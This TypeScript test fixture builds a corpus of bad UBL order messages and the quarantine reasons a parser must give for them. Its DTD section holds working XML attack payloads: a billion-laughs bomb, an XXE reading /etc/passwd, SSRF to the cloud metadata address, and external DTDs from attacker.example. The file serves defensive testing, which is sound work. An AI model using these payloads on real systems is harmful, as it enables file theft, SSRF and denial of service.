import { deflateSync, gzipSync } from 'node:zlib';
import { seededRandom } from '../sandbox/random';
import { fixture } from './ubl-examples';

/**
 * The hostile corpus (issue 10): bad messages of distinct kinds, each as the bytes Jakamo's queue
 * would deliver and the phrase the reason it is quarantined with must contain — a reason a person
 * can act on, not a stack trace. The good documents they are made from are this repository's
 * fixtures (`test/fixtures/ubl/`), which are valid UBL 2.1; every message is unique (its own order
 * number, or a comment naming its kind), so each gets its own row in the message archive.
 *
 * Used by `test/ubl/hostile-corpus.test.ts` (the codec alone) and
 * `test/e2e/hostile-corpus.test.ts` (the whole pipeline, interleaved with good orders).
 */

export type HostileGroup =
  | 'malformed'
  | 'not-xml'
  | 'wrong-root'
  | 'wrong-namespace'
  | 'missing'
  | 'bad-value'
  | 'lines'
  | 'dtd-entities'
  | 'size'
  | 'encoding'
  | 'binary';

export interface HostileMessage {
  /** Kebab-case name of the kind, unique in the corpus. */
  name: string;
  group: HostileGroup;
  /** What the message is, for the reader of a failing test. */
  description: string;
  /** Text as it is, or bytes (not UTF-8, binary) that the sandbox serves byte for byte. */
  body: string | Buffer;
  /** What the quarantine reason must say. */
  reason: RegExp;
  /**
   * Who refuses it: the codec (`parseInboundDocument` throws), or the intake, which reads it fine
   * but cannot route it to an order.
   */
  refusedBy: 'codec' | 'intake';
}

const orderXml = fixture('basic-order.xml');
const changeXml = fixture('basic-order-change.xml');
const cancellationXml = fixture('basic-order-cancellation.xml');
const statusNamespace = 'urn:jakamo:statusmessage:assumed:1';
const ubl = (document: string) => `urn:oasis:names:specification:ubl:schema:xsd:${document}-2`;

/** basic-order.xml with its own order number, so that each message of the corpus is unique. */
function order(name: string): string {
  return orderXml.replace('<cbc:ID>PO-4711</cbc:ID>', `<cbc:ID>PO-H-${name}</cbc:ID>`);
}

/** Replaces exactly one occurrence, so a fixture change cannot quietly make a kind harmless. */
function edit(text: string, from: string | RegExp, to: string): string {
  const count = typeof from === 'string' ? text.split(from).length - 1 : (text.match(from) ?? []).length;
  if (count !== 1)
    throw new Error(`hostile corpus: expected one ${String(from)} in the base document, found ${count}`);
  return text.replace(from, to);
}

/** A comment naming the kind after the XML declaration: makes a document unique without changing what it says. */
function tagged(name: string, xml: string): string {
  const comment = `<!-- hostile corpus: ${name} -->`;
  return /^<\?xml[^>]*\?>/.test(xml)
    ? xml.replace(/^(<\?xml[^>]*\?>)/, `$1\n${comment}`)
    : `${comment}\n${xml}`;
}

function withoutDeclaration(xml: string): string {
  return xml.replace(/^<\?xml[^>]*\?>\s*/, '');
}

function statusMessage(children: string, namespace = statusNamespace): string {
  return `<?xml version="1.0" encoding="UTF-8"?>\n<StatusMessage xmlns="${namespace}">${children}</StatusMessage>`;
}

function randomBytes(seed: number, length: number): Buffer {
  const random = seededRandom(seed);
  return Buffer.from(Array.from({ length }, () => Math.floor(random() * 256)));
}

function manyLine(id: number): string {
  return `<cac:OrderLine><cac:LineItem><cbc:ID>${id}</cbc:ID><cbc:Quantity unitCode="EA">1</cbc:Quantity><cac:Price><cbc:PriceAmount currencyID="EUR">1.00</cbc:PriceAmount></cac:Price><cac:Item><cbc:Name>Item ${id} with a reasonably long descriptive name</cbc:Name></cac:Item></cac:LineItem></cac:OrderLine>`;
}

/** More than the codec's 10 MB limit: one note of 10.5 MiB in an otherwise good order. */
const oversizedBytes = 10.5 * 1024 * 1024;

const laughs = `<?xml version="1.0"?>
<!DOCTYPE Order [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
]>
${withoutDeclaration(edit(order('billion-laughs'), '<cbc:Note>Deliver to the back door</cbc:Note>', '<cbc:Note>&lol4;</cbc:Note>'))}`;

type Entry = Omit<HostileMessage, 'refusedBy'> & { refusedBy?: 'intake' };

const entries: Entry[] = [
  // ── not well-formed ────────────────────────────────────────────────────────────────
  {
    name: 'truncated',
    group: 'malformed',
    description: 'an Order cut off in the middle (a connection that broke while Jakamo wrote it)',
    body: order('truncated').slice(0, Math.floor(orderXml.length * 0.6)),
    reason:
      /not well-formed XML at line \d+: it ends before <Order>, <cac:OrderLine>, .* closed \(the message was cut off\?\)/,
  },
  {
    name: 'mismatched-end-tag',
    group: 'malformed',
    description: 'an end tag that closes the wrong element',
    body: edit(order('mismatched-end-tag'), '</cac:PostalAddress>', '</cac:PostalAdress>'),
    reason: /not well-formed XML at line 27\b/,
  },
  {
    name: 'unclosed-element',
    group: 'malformed',
    description: 'the root is never closed',
    body: order('unclosed-element').replace('</Order>', ''),
    reason: /not well-formed XML at line \d+.*Order/,
  },
  {
    name: 'two-roots',
    group: 'malformed',
    description: 'two Orders one after the other in one message',
    body: `${order('two-roots')}\n${withoutDeclaration(order('two-roots-b'))}`,
    reason: /not well-formed XML|exactly one root element/,
  },
  {
    name: 'unquoted-attribute',
    group: 'malformed',
    description: 'an attribute value without quotes',
    body: edit(order('unquoted-attribute'), 'unitCode="BX">120', 'unitCode=BX>120'),
    reason: /not well-formed XML at line \d+/,
  },
  {
    name: 'bare-ampersand',
    group: 'malformed',
    description: 'a company name with a bare "&" (not escaped as &amp;)',
    body: edit(order('bare-ampersand'), 'Rakennus &amp; Rauta Oy', 'Rakennus & Rauta Oy'),
    reason: /not well-formed XML at line 18, column \d+: .*"&".*written &amp;/,
  },
  {
    name: 'undeclared-prefix',
    group: 'malformed',
    description: 'an element whose namespace prefix is never declared',
    body: edit(
      order('undeclared-prefix'),
      '<cbc:IssueTime>09:15:00</cbc:IssueTime>',
      '<ext:IssueTime>09:15:00</ext:IssueTime>',
    ),
    reason: /undeclared namespace prefix "ext"/,
  },
  {
    name: 'xml-declaration-not-first',
    group: 'malformed',
    description: 'white space and a second XML declaration in the middle of the document',
    body: edit(
      order('xml-declaration-not-first'),
      '<cbc:UBLVersionID>',
      '<?xml version="1.0"?><cbc:UBLVersionID>',
    ),
    reason:
      /not well-formed XML at line 6: an XML declaration \(<\?xml …\?>\) may only stand at the very start/,
  },
  {
    name: 'deep-nesting',
    group: 'malformed',
    description: '5000 nested elements (a stack-exhaustion attempt)',
    body: tagged(
      'deep-nesting',
      `<Order xmlns="${ubl('Order')}">${'<a>'.repeat(5000)}${'</a>'.repeat(5000)}</Order>`,
    ),
    reason: /nests elements deeper than \d+ levels/,
  },
  // ── not XML at all ─────────────────────────────────────────────────────────────────
  {
    name: 'empty-body',
    group: 'not-xml',
    description: 'a message with a body of 0 bytes',
    body: '',
    reason: /document is empty/,
  },
  {
    name: 'white-space-only',
    group: 'not-xml',
    description: 'only spaces and line breaks',
    body: ' \n\t \r\n ',
    reason: /document is empty/,
  },
  {
    name: 'declaration-and-comment-only',
    group: 'not-xml',
    description: 'an XML declaration and a comment, but no element',
    body: '<?xml version="1.0" encoding="UTF-8"?>\n<!-- the order will follow -->\n',
    reason: /document is empty.*no element/,
  },
  {
    name: 'plain-text',
    group: 'not-xml',
    description: 'a sentence instead of a document',
    body: 'Please confirm our order PO-4711 by Friday. Regards, Aino',
    reason: /not well-formed XML at line 1/,
  },
  {
    name: 'json',
    group: 'not-xml',
    description: 'a JSON order',
    body: JSON.stringify({ orderNumber: 'PO-H-json', buyer: 'FI-BUYER-7', lines: [{ id: 1, qty: 3 }] }),
    reason: /not well-formed XML at line 1/,
  },
  {
    name: 'html-doctype-page',
    group: 'not-xml',
    description: 'an HTML5 page with its <!DOCTYPE html> (a login page of a captive portal, say)',
    body: '<!DOCTYPE html>\n<html lang="en"><head><meta charset="utf-8"><title>Sign in</title></head><body><form></form></body></html>',
    reason: /root element is <html>: the message is an HTML page \("Sign in"\), not an order document/,
  },
  {
    name: 'html-error-page',
    group: 'not-xml',
    description: "a proxy's HTML error page where the message should be",
    body: '<html><head><title>502 Bad Gateway</title></head><body><h1>502 Bad Gateway</h1><hr>nginx</body></html>',
    reason:
      /root element is <html>: the message is an HTML page \("502 Bad Gateway"\), not an order document — most likely an error page/,
  },
  // ── a document, but not one the SO API queue carries ──────────────────────────────
  {
    name: 'invoice',
    group: 'wrong-root',
    description: 'a UBL Invoice',
    body: `<?xml version="1.0" encoding="UTF-8"?>
<Invoice xmlns="${ubl('Invoice')}" xmlns:cbc="urn:oasis:names:specification:ubl:schema:xsd:CommonBasicComponents-2">
  <cbc:ID>INV-H-1</cbc:ID><cbc:IssueDate>2026-03-02</cbc:IssueDate>
</Invoice>`,
    reason:
      /root element is <Invoice> in namespace \S+Invoice-2: expected a UBL 2\.1 Order, OrderChange or OrderCancellation/,
  },
  {
    name: 'order-response',
    group: 'wrong-root',
    description: "an OrderResponse (the supplier's own kind of document) in the queue",
    body: fixture('basic-order-response.xml'),
    reason: /root element is <OrderResponse>.*expected a UBL 2\.1 Order, OrderChange or OrderCancellation/,
  },
  {
    name: 'unknown-root',
    group: 'wrong-root',
    description: 'an element nobody knows',
    body: '<?xml version="1.0"?>\n<Bestellung><Nummer>PO-H-unknown-root</Nummer></Bestellung>',
    reason: /root element is <Bestellung> \(no namespace\)/,
  },
  {
    name: 'soap-envelope',
    group: 'wrong-root',
    description: 'an Order wrapped in a SOAP envelope',
    body: `<soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"><soap:Body>${withoutDeclaration(order('soap-envelope'))}</soap:Body></soap:Envelope>`,
    reason: /root element is <Envelope> in namespace http:\/\/schemas\.xmlsoap\.org\/soap\/envelope\//,
  },
  // ── the right name in the wrong namespace ──────────────────────────────────────────
  {
    name: 'order-without-namespace',
    group: 'wrong-namespace',
    description: 'an Order whose root has no namespace at all',
    body: edit(order('order-without-namespace'), `<Order xmlns="${ubl('Order')}"`, '<Order'),
    reason: /<Order> \(no namespace\), but an Order must be in namespace \S+:Order-2/,
  },
  {
    name: 'order-in-order-response-namespace',
    group: 'wrong-namespace',
    description: "an Order in the OrderResponse-2 namespace (the Jakamo sample's quirk, the other way round)",
    body: edit(
      order('order-in-order-response-namespace'),
      `<Order xmlns="${ubl('Order')}"`,
      `<Order xmlns="${ubl('OrderResponse')}"`,
    ),
    reason: /<Order> in namespace \S+OrderResponse-2, but an Order must be in namespace \S+:Order-2/,
  },
  {
    name: 'order-change-in-order-namespace',
    group: 'wrong-namespace',
    description: 'an OrderChange declared in the Order-2 namespace',
    body: edit(
      changeXml.replace('<cbc:ID>PO-4711-C1</cbc:ID>', '<cbc:ID>PO-H-change-ns</cbc:ID>'),
      `<OrderChange xmlns="${ubl('OrderChange')}"`,
      `<OrderChange xmlns="${ubl('Order')}"`,
    ),
    reason:
      /<OrderChange> in namespace \S+:Order-2, but an OrderChange must be in namespace \S+OrderChange-2/,
  },
  {
    name: 'status-message-wrong-namespace',
    group: 'wrong-namespace',
    description: 'a StatusMessage in a namespace of its own invention',
    body: statusMessage(
      '<OrderID>PO-H-status-ns</OrderID><BuyerPartyID>FI-BUYER-7</BuyerPartyID><Status>Cancelled</Status>',
      'urn:example:status',
    ),
    reason:
      /<StatusMessage> in namespace urn:example:status, but a StatusMessage must be in namespace urn:jakamo:statusmessage:assumed:1/,
  },
  {
    name: 'components-in-wrong-namespace',
    group: 'wrong-namespace',
    description: 'the cbc prefix bound to a made-up namespace, so the order number is not a UBL element',
    body: edit(
      order('cbc-wrong-namespace'),
      'xmlns:cbc="urn:oasis:names:specification:ubl:schema:xsd:CommonBasicComponents-2"',
      'xmlns:cbc="urn:example:basic-components"',
    ),
    reason: /Order has no cbc:ID: the customer's order number is mandatory/,
  },
  // ── what every order needs ─────────────────────────────────────────────────────────
  {
    name: 'missing-order-number',
    group: 'missing',
    description: 'an Order without cbc:ID',
    body: tagged('missing-order-number', edit(orderXml, '<cbc:ID>PO-4711</cbc:ID>', '')),
    reason: /Order has no cbc:ID: the customer's order number is mandatory/,
  },
  {
    name: 'blank-order-number',
    group: 'missing',
    description: 'an Order whose cbc:ID is only white space',
    body: tagged('blank-order-number', edit(orderXml, '<cbc:ID>PO-4711</cbc:ID>', '<cbc:ID>   </cbc:ID>')),
    reason: /Order has no cbc:ID: the customer's order number is mandatory/,
  },
  {
    name: 'missing-buyer',
    group: 'missing',
    description: 'an Order without BuyerCustomerParty',
    body: edit(order('missing-buyer'), /<cac:BuyerCustomerParty>[\s\S]*<\/cac:BuyerCustomerParty>/, ''),
    reason: /Order has no buyer identifier/,
  },
  {
    name: 'buyer-without-id',
    group: 'missing',
    description: 'a buyer with a name and an address but no identifier',
    body: edit(
      order('buyer-without-id'),
      /<cac:PartyIdentification>\s*<cbc:ID>FI-BUYER-7<\/cbc:ID>\s*<\/cac:PartyIdentification>/,
      '',
    ),
    reason: /Order has no buyer identifier/,
  },
  {
    name: 'no-order-lines',
    group: 'missing',
    description: 'an Order without a single OrderLine',
    body: edit(order('no-order-lines'), /<cac:OrderLine>[\s\S]*<\/cac:OrderLine>/, ''),
    reason: /Order has no cac:OrderLine/,
  },
  {
    name: 'line-without-id',
    group: 'missing',
    description: 'an order line whose LineItem has no ID',
    body: edit(order('line-without-id'), '<cbc:ID>2</cbc:ID>', ''),
    reason: /Order line 2 has no cac:LineItem\/cbc:ID/,
  },
  {
    name: 'order-change-without-reference',
    group: 'missing',
    description: 'an OrderChange with neither OrderReference/ID nor its own ID',
    body: tagged(
      'order-change-without-reference',
      edit(
        edit(changeXml, '<cbc:ID>PO-4711-C1</cbc:ID>', ''),
        /<cac:OrderReference>[\s\S]*?<\/cac:OrderReference>/,
        '',
      ),
    ),
    reason: /OrderChange has neither cac:OrderReference\/cbc:ID nor cbc:ID/,
  },
  {
    name: 'order-cancellation-without-reference',
    group: 'missing',
    description: 'an OrderCancellation that does not say which order it cancels',
    body: edit(
      cancellationXml.replace('<cbc:ID>PO-4711-X</cbc:ID>', '<cbc:ID>PO-H-cancel-ref</cbc:ID>'),
      /<cac:OrderReference>[\s\S]*?<\/cac:OrderReference>/,
      '',
    ),
    reason: /OrderCancellation has no cac:OrderReference\/cbc:ID/,
  },
  {
    name: 'status-message-without-order',
    group: 'missing',
    description: 'a StatusMessage without OrderID',
    body: statusMessage(
      '<BuyerPartyID>FI-BUYER-7</BuyerPartyID><Status>Cancelled</Status><Note>no order id</Note>',
    ),
    reason: /StatusMessage has no OrderID/,
  },
  {
    name: 'status-message-without-status',
    group: 'missing',
    description: 'a StatusMessage without Status',
    body: statusMessage('<OrderID>PO-H-status-missing</OrderID><BuyerPartyID>FI-BUYER-7</BuyerPartyID>'),
    reason: /StatusMessage has no Status/,
  },
  {
    name: 'status-message-without-buyer',
    group: 'missing',
    description: 'a StatusMessage that does not name the buyer, so its order cannot be found',
    body: statusMessage('<OrderID>PO-H-status-buyer</OrderID><Status>Cancelled</Status>'),
    reason: /StatusMessage names no buyer party id.*cannot be routed/,
    refusedBy: 'intake',
  },
  // ── values that are not what they claim ──────────────────────────────────────────
  {
    name: 'quantity-not-a-number',
    group: 'bad-value',
    description: 'a quantity written in words',
    body: edit(order('quantity-words'), 'unitCode="BX">120<', 'unitCode="BX">ten boxes<'),
    reason: /Quantity is "ten boxes", which is not a decimal number/,
  },
  {
    name: 'quantity-with-exponent',
    group: 'bad-value',
    description: 'a quantity in scientific notation',
    body: edit(order('quantity-exponent'), 'unitCode="BX">120<', 'unitCode="BX">1.2E+2<'),
    reason: /Quantity is "1\.2E\+2", which is not a decimal number/,
  },
  {
    name: 'negative-quantity',
    group: 'bad-value',
    description: 'an order line that asks for -5 metres',
    body: edit(order('negative-quantity'), 'unitCode="MTR">15<', 'unitCode="MTR">-5<'),
    reason: /line 2 \(ID 2\) asks for a negative quantity, -5/,
  },
  {
    name: 'absurd-quantity',
    group: 'bad-value',
    description: 'a quantity of 10^30 boxes',
    body: edit(order('absurd-quantity'), 'unitCode="BX">120<', `unitCode="BX">1${'0'.repeat(30)}<`),
    reason: /line 1 \(ID 1\) asks for 1000000000000000000000000000000 .*more than 15 digits/,
  },
  {
    name: 'negative-price',
    group: 'bad-value',
    description: 'a price of -12.50 EUR',
    body: edit(order('negative-price'), 'currencyID="EUR">12.50<', 'currencyID="EUR">-12.50<'),
    reason: /line 1 \(ID 1\) has a negative price, -12\.50/,
  },
  {
    name: 'zero-base-quantity',
    group: 'bad-value',
    description: 'a price per 0 metres (a division by zero waiting to happen)',
    body: edit(
      order('zero-base-quantity'),
      '<cbc:BaseQuantity unitCode="MTR">1</cbc:BaseQuantity>',
      '<cbc:BaseQuantity unitCode="MTR">0</cbc:BaseQuantity>',
    ),
    reason: /line 2 \(ID 2\) has a price per 0 MTR: the base quantity of a price must be more than 0/,
  },
  {
    name: 'amount-with-thousands-separator',
    group: 'bad-value',
    description: 'a payable amount written "1,536.00"',
    body: edit(
      order('thousands-separator'),
      'currencyID="EUR">1536.00</cbc:PayableAmount>',
      'currencyID="EUR">1,536.00</cbc:PayableAmount>',
    ),
    reason: /PayableAmount is "1,536\.00", which is not a decimal number/,
  },
  {
    name: 'huge-order-number',
    group: 'bad-value',
    description: 'an order number of 5000 characters (it would become a workflow id Temporal refuses)',
    body: edit(orderXml, '<cbc:ID>PO-4711</cbc:ID>', `<cbc:ID>PO-${'9'.repeat(5000)}</cbc:ID>`),
    reason: /order number \(Order\/cbc:ID\) is 5003 characters long: identifiers may be at most 100 bytes/,
  },
  {
    name: 'control-character-reference',
    group: 'bad-value',
    description: 'a character reference to a control character XML does not allow (&#1;)',
    body: edit(order('control-char-ref'), 'Steel wire 2 mm', 'Steel wire&#1; 2 mm'),
    reason: /character reference "&#1;" stands for U\+0001, a character not allowed in XML/,
  },
  // ── lines that contradict each other ─────────────────────────────────────────────
  {
    name: 'duplicate-line-ids',
    group: 'lines',
    description: 'two order lines with the same LineItem/ID',
    body: edit(order('duplicate-line-ids'), '<cbc:ID>2</cbc:ID>', '<cbc:ID>1</cbc:ID>'),
    reason: /two lines with ID 1 \(lines 1 and 2\)/,
  },
  {
    name: 'duplicate-line-ids-in-change',
    group: 'lines',
    description: 'an OrderChange that states line 1 twice',
    body: edit(
      changeXml.replace('<cbc:ID>PO-4711-C1</cbc:ID>', '<cbc:ID>PO-H-dup-change</cbc:ID>'),
      /<cbc:ID>2<\/cbc:ID>/,
      '<cbc:ID>1</cbc:ID>',
    ),
    reason: /OrderChange has two lines with ID 1/,
  },
  // ── DTDs and entities ─────────────────────────────────────────────────────────────
  {
    name: 'billion-laughs',
    group: 'dtd-entities',
    description: 'nested entity expansion (a memory bomb)',
    body: laughs,
    reason: /DOCTYPE declaration at line 2: DTDs and entity declarations are refused/,
  },
  {
    name: 'external-entity-file',
    group: 'dtd-entities',
    description: 'an external entity reading /etc/passwd into the order number (XXE)',
    body: `<?xml version="1.0"?>\n<!DOCTYPE Order [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n${withoutDeclaration(
      edit(orderXml, '<cbc:ID>PO-4711</cbc:ID>', '<cbc:ID>&xxe;</cbc:ID>'),
    )}`,
    reason: /DOCTYPE declaration at line 2: DTDs and entity declarations are refused/,
  },
  {
    name: 'external-entity-http',
    group: 'dtd-entities',
    description: 'an external entity fetched over HTTP (server-side request forgery)',
    body: `<!DOCTYPE Order [<!ENTITY ssrf SYSTEM "http://169.254.169.254/latest/meta-data/">]>\n${withoutDeclaration(
      edit(order('xxe-http'), '<cbc:Note>Deliver to the back door</cbc:Note>', '<cbc:Note>&ssrf;</cbc:Note>'),
    )}`,
    reason: /DOCTYPE declaration at line 1: DTDs and entity declarations are refused/,
  },
  {
    name: 'external-dtd',
    group: 'dtd-entities',
    description: 'a DOCTYPE pointing at a DTD on another server',
    body: `<?xml version="1.0"?>\n<!DOCTYPE Order SYSTEM "http://attacker.example/order.dtd">\n${withoutDeclaration(order('external-dtd'))}`,
    reason: /DOCTYPE declaration at line 2/,
  },
  {
    name: 'parameter-entity',
    group: 'dtd-entities',
    description: 'a parameter entity that pulls in an external DTD',
    body: `<?xml version="1.0"?>\n<!DOCTYPE Order [<!ENTITY % remote SYSTEM "http://attacker.example/evil.dtd"> %remote;]>\n${withoutDeclaration(order('parameter-entity'))}`,
    reason: /DOCTYPE declaration at line 2/,
  },
  {
    name: 'entity-declaration-inside-root',
    group: 'dtd-entities',
    description: 'an ENTITY declaration hidden inside the document body',
    body: edit(order('entity-inside'), '<cbc:UBLVersionID>', '<!ENTITY inner "x"><cbc:UBLVersionID>'),
    reason: /ENTITY declaration at line 6: DTDs and entity declarations are refused/,
  },
  {
    name: 'undeclared-entity-reference',
    group: 'dtd-entities',
    description: 'a reference to an entity that no DTD declares (&company;)',
    body: edit(order('undeclared-entity'), 'Rakennus &amp; Rauta Oy', '&company;'),
    reason: /entity reference "&company;" is not one of XML's predefined entities/,
  },
  // ── size ──────────────────────────────────────────────────────────────────────────
  {
    name: 'oversized',
    group: 'size',
    description: 'an Order of more than 10 MB (one enormous note)',
    body: edit(order('oversized'), 'Deliver to the back door', 'x'.repeat(oversizedBytes)),
    reason: /document is (at least )?\d+ bytes, more than the limit of 10485760 bytes/,
  },
  {
    name: 'content-too-large-for-a-workflow',
    group: 'size',
    description:
      'an Order of 3 MB (under the byte limit) whose note alone is more than an order workflow can be sent',
    body: edit(order('big-note'), 'Deliver to the back door', 'n'.repeat(3 * 1024 * 1024)),
    reason: /Order is \d+ bytes once read .*more than the 1048576 bytes one order message may carry/,
  },
  {
    name: 'thirty-thousand-lines',
    group: 'size',
    description: 'an Order of 30 000 lines (6 MB, under the byte limit)',
    body: edit(
      order('thirty-thousand-lines'),
      /<cac:OrderLine>[\s\S]*<\/cac:OrderLine>/,
      Array.from({ length: 30_000 }, (_, index) => manyLine(index + 1)).join('\n'),
    ),
    reason: /Order is \d+ bytes once read .*more than the 1048576 bytes one order message may carry/,
  },
  // ── not UTF-8 ─────────────────────────────────────────────────────────────────────
  {
    name: 'latin-1-declared',
    group: 'encoding',
    description: 'an Order in ISO-8859-1 that says so in its XML declaration',
    body: Buffer.from(
      edit(order('latin-1-declared'), 'encoding="UTF-8"', 'encoding="ISO-8859-1"').replace(
        'Aino Virtanen',
        'Äinö Virtänen',
      ),
      'latin1',
    ),
    reason: /XML declaration says encoding="ISO-8859-1": only UTF-8 documents are accepted/,
  },
  {
    name: 'latin-1-undeclared',
    group: 'encoding',
    description: 'an Order in Windows-1252/ISO-8859-1 that claims to be UTF-8 (ä, ö as single bytes)',
    body: Buffer.from(order('latin-1-undeclared').replace('Aino Virtanen', 'Äinö Virtänen'), 'latin1'),
    reason: /not valid UTF-8.*line 29.*ISO-8859-1/,
  },
  {
    name: 'utf-16',
    group: 'encoding',
    description: 'an Order in UTF-16 (little-endian, with a byte order mark)',
    body: Buffer.concat([
      Buffer.from([0xff, 0xfe]),
      Buffer.from(edit(order('utf-16'), 'encoding="UTF-8"', 'encoding="UTF-16"'), 'utf16le'),
    ]),
    reason: /UTF-16/,
  },
  {
    name: 'other-encoding-declared',
    group: 'encoding',
    description: 'a plain ASCII Order that declares windows-1252',
    body: edit(order('windows-1252'), 'encoding="UTF-8"', 'encoding="windows-1252"'),
    reason: /XML declaration says encoding="windows-1252"/,
  },
  // ── binary ────────────────────────────────────────────────────────────────────────
  {
    name: 'random-bytes',
    group: 'binary',
    description: '4 KB of random bytes',
    body: randomBytes(10, 4096),
    reason: /not valid UTF-8|control character/,
  },
  {
    name: 'gzip-order',
    group: 'binary',
    description: 'a gzip-compressed Order served as if it were the Order',
    body: gzipSync(order('gzip')),
    reason: /not valid UTF-8|control character/,
  },
  {
    name: 'deflate-order',
    group: 'binary',
    description: 'a zlib-compressed Order without any header',
    body: deflateSync(order('deflate')),
    reason: /not valid UTF-8|control character/,
  },
  {
    name: 'png-image',
    group: 'binary',
    description: 'a PNG image',
    body: Buffer.concat([
      Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
      randomBytes(11, 512),
    ]),
    reason: /not valid UTF-8|control character/,
  },
  {
    name: 'pdf-document',
    group: 'binary',
    description: 'a PDF where the Order should be',
    body: Buffer.concat([
      Buffer.from('%PDF-1.7\n%\u00e2\u00e3\u00cf\u00d3\n', 'latin1'),
      randomBytes(12, 512),
    ]),
    reason: /not valid UTF-8|control character/,
  },
  {
    name: 'nul-byte-in-order',
    group: 'binary',
    description: 'a good Order with one NUL byte in a note',
    body: edit(order('nul-byte'), 'Deliver to the back door', 'Deliver to the\u0000back door'),
    reason: /control character U\+0000 at line 10/,
  },
];

export const hostileCorpus: readonly HostileMessage[] = entries.map((entry) => ({
  ...entry,
  refusedBy: entry.refusedBy ?? 'codec',
}));

/**
 * The text of a message as the pipeline reads it from the queue: Jakamo's answer decoded as
 * UTF-8 the way `fetch`'s `text()` does (invalid bytes become U+FFFD, a UTF-8 byte order mark is
 * dropped). The message archive keys each message by the SHA-256 of this text.
 */
export function receivedText(body: string | Buffer): string {
  return typeof body === 'string' ? body : new TextDecoder('utf-8').decode(body);
}
